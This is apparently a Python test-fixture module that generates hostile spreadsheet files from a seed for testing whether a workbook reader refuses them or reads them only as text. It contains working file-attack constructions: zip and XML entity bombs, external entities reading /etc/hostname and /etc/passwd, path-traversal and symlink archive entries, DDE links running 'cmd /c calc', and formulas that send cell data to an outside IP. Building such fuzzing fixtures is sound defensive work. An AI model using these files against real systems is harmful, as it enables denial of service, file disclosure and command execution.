"""Hostile files, made from a seed: workbooks that must be refused, or taken as the plain text they hold.

Each comes with what it is meant to do ("refused": no cell may be read; "harmless": it may be read, as text only).
"""

from __future__ import annotations

import io
import random
import zipfile
from collections.abc import Callable, Iterable, Iterator
from dataclasses import dataclass
from typing import Final

MAIN: Final = "xl/workbook.xml"
TYPES: Final = "[Content_Types].xml"
SHEET: Final = "xl/worksheets/sheet1.xml"
STRINGS: Final = "xl/sharedStrings.xml"
RELATIONS: Final = "xl/_rels/workbook.xml.rels"
SECRET_FILE: Final = "/etc/hostname"


@dataclass(frozen=True)
class Hostile:
    """A hostile file; `kind` names the attack."""

    kind: str
    content: bytes
    filename: str = "copy.xlsx"


Parts = dict[str, bytes]
Attack = Callable[[Parts, random.Random], bytes]


def unzipped(content: bytes) -> Parts:
    """The parts of a workbook by name."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def zipped(parts: Parts, *more: tuple[zipfile.ZipInfo, bytes]) -> bytes:
    """An archive of these parts, and of others whose entries are made by hand."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, part in parts.items():
            archive.writestr(name, part)
        for info, part in more:
            archive.writestr(info, part)
    return target.getvalue()


def _after_declaration(part: bytes, text: bytes) -> bytes:
    head, mark, rest = part.partition(b"?>")
    return head + mark + text + rest


def _zip_bomb(parts: Parts, rng: random.Random) -> bytes:
    size = rng.randint(30, 60) * 1024 * 1024
    return zipped({**parts, rng.choice(("xl/media/x.xml", "docProps/x.xml", "xl/theme/x.xml")): b"\0" * size})


def _wide_bomb(parts: Parts, rng: random.Random) -> bytes:
    """Sheets that unpack to text of repeated rows: a plausible ratio each, too much together."""
    body = b"<row>" + b"<c><v>1</v></c>" * 4000 + b"</row>"
    sheet = b"<worksheet><sheetData>" + body * rng.randint(160, 220) + b"</sheetData></worksheet>"
    return zipped({**parts, SHEET: sheet, "xl/worksheets/sheet2.xml": sheet})


def _xxe(parts: Parts, rng: random.Random) -> bytes:
    name = rng.choice((MAIN, SHEET, STRINGS, TYPES, RELATIONS, "xl/styles.xml"))
    address = rng.choice((f"file://{SECRET_FILE}", "http://127.0.0.1:9/x", "https://example.test/x.dtd"))
    kind = rng.choice((f'<!DOCTYPE r [<!ENTITY x SYSTEM "{address}">]>', f'<!DOCTYPE r SYSTEM "{address}">'))
    part = _after_declaration(parts.get(name, b"<?xml version='1.0'?><x/>"), kind.encode())
    return zipped({**parts, name: part.replace(b"<t>", b"<t>&x;", 1)})


def _entity_bomb(parts: Parts, rng: random.Random) -> bytes:
    levels = rng.randint(6, 9)
    entities = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, levels + 1))
    text = f'<!DOCTYPE r [<!ENTITY e0 "{"ha" * 20}">{entities}]>'.encode()
    strings = _after_declaration(parts.get(STRINGS, b"<?xml version='1.0'?><x/>"), text)
    return zipped({**parts, STRINGS: strings.replace(b"<t>", f"<t>&e{levels};".encode(), 1)})


def _hidden_entities(parts: Parts, rng: random.Random) -> bytes:
    """The same in an encoding in which a search for the word finds nothing."""
    encoding = rng.choice(("utf-16", "utf-16-le", "utf-16-be", "utf-7", "utf-32"))
    text = '<?xml version="1.0" encoding="%s"?><!DOCTYPE r [<!ENTITY x SYSTEM "file://%s">]><r>&x;</r>'
    return zipped({**parts, rng.choice((STRINGS, SHEET)): (text % (encoding, SECRET_FILE)).encode(encoding)})


def _external_link(parts: Parts, rng: random.Random) -> bytes:
    target = rng.choice((r"\\198.51.100.7\share\x.xlsx", "http://198.51.100.7/x.xlsx", "file:///etc/passwd"))
    link = (
        b'<?xml version="1.0"?><externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        b'<ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    )
    relation = (
        '<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        f'{rng.choice(("externalLink", "attachedTemplate", "oleObject", "image"))}" Target="{target}" '
        'TargetMode="External"/></Relationships>'
    )
    changed = {RELATIONS: parts[RELATIONS].replace(b"</Relationships>", relation.encode())}
    if rng.random() < 0.5:
        changed |= {"xl/externalLinks/externalLink1.xml": link}
    return zipped({**parts, **changed})


def _macros(parts: Parts, rng: random.Random) -> bytes:
    if rng.random() < 0.4:
        plain = b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
        macro = b"application/vnd.ms-excel.sheet.macroEnabled.main+xml"
        return zipped({**parts, TYPES: parts[TYPES].replace(plain, macro)})
    name = rng.choice(
        ("xl/vbaProject.bin", "xl/VBAPROJECT.BIN", "xl/macrosheets/sheet1.xml", "xl/activeX/activeX1.bin")
    )
    return zipped({**parts, name: b"\xd0\xcf\x11\xe0" + rng.randbytes(400)})


def _wrong_type(_parts: Parts, rng: random.Random) -> bytes:
    others = (
        b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\n",
        b"\x89PNG\r\n\x1a\n" + rng.randbytes(300),
        b"MZ" + rng.randbytes(600),
        b"<html><script>alert(1)</script></html>",
        b"key,base_version\ncoo-01,1\n",
        b"<?xml version='1.0'?><Workbook xmlns='urn:schemas-microsoft-com:office:spreadsheet'/>",
        zipped({"word/document.xml": b"<w/>", TYPES: b"<Types/>"}),
        zipped({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": b"<x/>"}),
        rng.randbytes(2000),
        b"PK\x03\x04",
        b"PK\x05\x06" + b"\0" * 18,
    )
    return rng.choice(others)


def _path_in_name(parts: Parts, rng: random.Random) -> bytes:
    names = ("../evil.xml", "xl/../../evil.xml", "/etc/cron.d/x", "..\\evil.xml", "C:/x.xml", "xl/./x.xml", "x\\y.xml")
    return zipped(parts, (zipfile.ZipInfo(rng.choice(names)), b"<x/>"))


def _symlink(parts: Parts, _rng: random.Random) -> bytes:
    info = zipfile.ZipInfo("xl/link.xml")
    info.external_attr = 0o120777 << 16
    return zipped(parts, (info, SECRET_FILE.encode()))


def _many_rows(parts: Parts, rng: random.Random) -> bytes:
    if rng.random() < 0.5:
        number = rng.choice((100_000, 1_048_576, 99_999_999_999))
        rows = f'<row r="{number}"><c r="A{number}"><v>1</v></c></row>'
    else:
        rows = "".join(f'<row r="{number}"><c r="A{number}"><v>1</v></c></row>' for number in range(1, 100_001))
    return zipped({**parts, SHEET: _sheet(rows)})


def _many_columns(parts: Parts, rng: random.Random) -> bytes:
    column = rng.choice(("XFD", "ZZZ", "AAA"))
    return zipped({**parts, SHEET: _sheet(f'<row r="1"><c r="{column}1"><v>1</v></c></row>' * 3)})


def _sheet(rows: str) -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/'
        f'spreadsheetml/2006/main"><sheetData>{rows}</sheetData></worksheet>'
    ).encode()


def _truncated(parts: Parts, rng: random.Random) -> bytes:
    whole = zipped(parts)
    return whole[: rng.randint(30, len(whole) - 30)]


def _flipped(parts: Parts, rng: random.Random) -> bytes:
    """Bytes turned over in the packed data and the directory: some readers go on with what they get."""
    whole = bytearray(zipped(parts))
    for _time in range(rng.randint(20, 200)):
        whole[rng.randrange(4, len(whole))] ^= 1 << rng.randrange(8)
    return bytes(whole)


def _duplicate(parts: Parts, rng: random.Random) -> bytes:
    """Two parts of one name: what a scanner sees need not be what the reader takes."""
    name = rng.choice((MAIN, SHEET, TYPES))
    other = name.upper() if rng.random() < 0.5 else name.swapcase()
    return zipped(parts, (zipfile.ZipInfo(other), b"<x/>"))


def _encrypted(parts: Parts, rng: random.Random) -> bytes:
    if rng.random() < 0.5:
        return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + rng.randbytes(3000)
    whole = bytearray(zipped(parts))
    place = whole.find(b"PK\x01\x02")
    while place >= 0:
        whole[place + 8] |= 1
        place = whole.find(b"PK\x01\x02", place + 4)
    return bytes(whole)


def _many_entries(parts: Parts, rng: random.Random) -> bytes:
    return zipped({**parts, **{f"xl/media/{n}.png": b"" for n in range(rng.choice((1001, 5000)))}})


def _lying_sizes(parts: Parts, rng: random.Random) -> bytes:
    """A directory that understates, or overstates, what a part unpacks to."""
    whole = bytearray(zipped({**parts, SHEET: b"<worksheet>" + b" " * 5_000_000 + b"</worksheet>"}))
    place = whole.find(b"PK\x01\x02")
    while place >= 0:
        whole[place + 24 : place + 28] = rng.choice((100, 2**31)).to_bytes(4, "little")
        place = whole.find(b"PK\x01\x02", place + 4)
    return bytes(whole)


def _formula(parts: Parts, rng: random.Random) -> bytes:
    formulas = (
        "1+1",
        "HYPERLINK(&quot;http://198.51.100.7/&quot;&amp;A1,&quot;x&quot;)",
        "WEBSERVICE(&quot;http://198.51.100.7/&quot;)",
        "cmd|&apos;/C calc&apos;!A0",
        "&apos;[1]Sheet1&apos;!A1",
    )
    sheet = parts[SHEET]
    cell = f'<c r="H3" t="str"><f>{rng.choice(formulas)}</f><v>x</v></c>'.encode()
    start = sheet.find(b'<row r="3"')
    end = sheet.find(b"</row>", start)
    row = sheet[start:end]
    place = row.find(b'<c r="H3"')
    if place >= 0:
        after = row.find(b"</c>", place) + 4
        row = row[:place] + cell + row[after:]
    else:
        row += cell
    return zipped({**parts, SHEET: sheet[:start] + row + sheet[end:]})


REFUSED: Final[dict[str, Attack]] = {
    "zip bomb": _zip_bomb,
    "wide bomb": _wide_bomb,
    "external entity": _xxe,
    "entity bomb": _entity_bomb,
    "hidden entities": _hidden_entities,
    "external link": _external_link,
    "macros": _macros,
    "wrong type": _wrong_type,
    "path in a name": _path_in_name,
    "symlink": _symlink,
    "many rows": _many_rows,
    "many columns": _many_columns,
    "truncated": _truncated,
    "duplicate names": _duplicate,
    "encrypted": _encrypted,
    "many entries": _many_entries,
    "lying sizes": _lying_sizes,
}
"""No cell of these may be read."""

NEUTRALISED: Final[dict[str, Attack]] = {"formula": _formula, "flipped bytes": _flipped}
"""These may be read, as far as they can: a formula is told as a problem of its cell, and never a value."""

ATTACKS: Final = {**REFUSED, **NEUTRALISED}


def hostile_workbooks(workbook: bytes, kinds: Iterable[str], *, seed: int) -> Iterator[Hostile]:
    """A hostile file of each kind, made from a good one; the same seed gives the same files."""
    rng = random.Random(seed)
    parts = unzipped(workbook)
    filenames = ("copy.xlsx", "../../copy.xlsx", "copy.xlsm", "a\x00b.xlsx")
    for kind in kinds:
        yield Hostile(kind, ATTACKS[kind](parts, rng), rng.choice(filenames))
